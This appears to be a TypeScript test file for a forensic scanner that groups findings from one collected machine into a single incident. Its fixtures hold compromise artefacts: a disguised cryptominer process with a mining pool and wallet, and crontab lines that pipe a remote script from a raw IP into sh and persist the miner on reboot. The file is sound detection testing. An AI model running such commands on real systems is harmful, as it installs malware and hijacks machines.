/**
 * One host, one name (issue 8, item 6): files collected from one machine belong to one host even without
 * etc/hostname, and a lone listing that names no machine is one incident, not one per finding.
 */
import { test } from "node:test";
import assert from "node:assert/strict";
import { mkdirSync, mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { runScan } from "./run.js";

const WALLET = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A";
const PS = [
  "USER         PID %CPU %MEM    VSZ   RSS TTY      STAT START   TIME COMMAND",
  "root           1  0.0  0.1 168000 11000 ?        Ss   03:00   0:01 /sbin/init",
  `www-data    4242 390.5  2.1 2553412 170432 ?     Ssl  03:14 812:10 /tmp/.x/kswapd0 -o pool.supportxmr.com:3333 -u ${WALLET} --donate-level 1`,
].join("\n") + "\n";

function tree(files: Record<string, string>): string {
  const dir = mkdtempSync(join(tmpdir(), "mh-collection-"));
  for (const [rel, text] of Object.entries(files)) {
    mkdirSync(dirname(join(dir, rel)), { recursive: true });
    writeFileSync(join(dir, rel), text);
  }
  return dir;
}

test("a lone ps auxww that names no host is one incident about the host it was collected from", async () => {
  const dir = tree({ "ps.txt": PS });
  const { incidents, findings } = await runScan({ paths: [join(dir, "ps.txt")] });
  assert.ok(findings.length >= 2, `${findings.length} findings`);
  assert.equal(incidents.length, 1, incidents.map((i) => i.title).join("\n"));
  assert.equal(incidents[0]!.scope.hosts, 1);
  assert.match(incidents[0]!.title, /the host ps\.txt was collected from/);
});

test("a UAC-style collection without etc/hostname: hostname.txt names the host of every file, one incident", async () => {
  const dir = tree({
    "uac-web01/live_response/system/hostname.txt": "web-01\n",
    "uac-web01/live_response/process/ps_auxww.txt": PS,
    "uac-web01/[root]/var/spool/cron/crontabs/www-data": "*/5 * * * * curl -fsSL http://185.122.204.197/ldr.sh | sh\n@reboot /tmp/.x/kswapd0 -o pool.supportxmr.com:3333\n",
  });
  const { incidents } = await runScan({ paths: [dir] });
  assert.equal(incidents.length, 1, incidents.map((i) => i.title).join("\n"));
  assert.deepEqual(incidents[0]!.entities.hosts, ["web-01"]);
  assert.match(incidents[0]!.title, /host web-01/);
});

test("uname -a output names the host when no hostname file does", async () => {
  const dir = tree({
    "case-17/live_response/system/uname_-a.txt": "Linux db-prod-02 5.15.0-88-generic #98-Ubuntu SMP Mon Oct 2 15:18:56 UTC 2023 x86_64 x86_64 x86_64 GNU/Linux\n",
    "case-17/live_response/process/ps_auxww.txt": PS,
  });
  const { incidents } = await runScan({ paths: [dir] });
  assert.equal(incidents.length, 1);
  assert.deepEqual(incidents[0]!.entities.hosts, ["db-prod-02"]);
});
